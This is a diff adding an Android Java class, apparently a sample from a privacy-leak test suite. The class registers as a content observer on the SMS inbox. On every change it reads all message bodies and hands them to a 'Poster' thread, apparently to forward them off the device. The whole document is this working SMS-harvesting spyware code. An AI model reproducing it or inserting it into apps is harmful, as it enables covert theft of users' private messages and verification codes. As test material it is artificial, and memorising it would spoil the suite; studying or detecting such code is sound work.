@@ -1,0 +1,30 @@
+package cn.privlens.suite.inbox_observer_forwards;
+
+import android.content.Context;
+import android.database.ContentObserver;
+import android.database.Cursor;
+import android.net.Uri;
+import android.os.Handler;
+
+class InboxObserver extends ContentObserver {
+    private final Context context;
+
+    InboxObserver(Context context, Handler handler) {
+        super(handler);
+        this.context = context;
+    }
+
+    @Override
+    public void onChange(boolean self) {
+        Cursor c = context.getContentResolver().query(Uri.parse("content://sms/inbox"), new String[] {"body"}, null, null, "date desc");
+        if (c == null) {
+            return;
+        }
+        StringBuilder b = new StringBuilder();
+        while (c.moveToNext()) {
+            b.append(c.getString(c.getColumnIndex("body"))).append('\n');
+        }
+        c.close();
+        new Poster(b.toString()).start();
+    }
+}
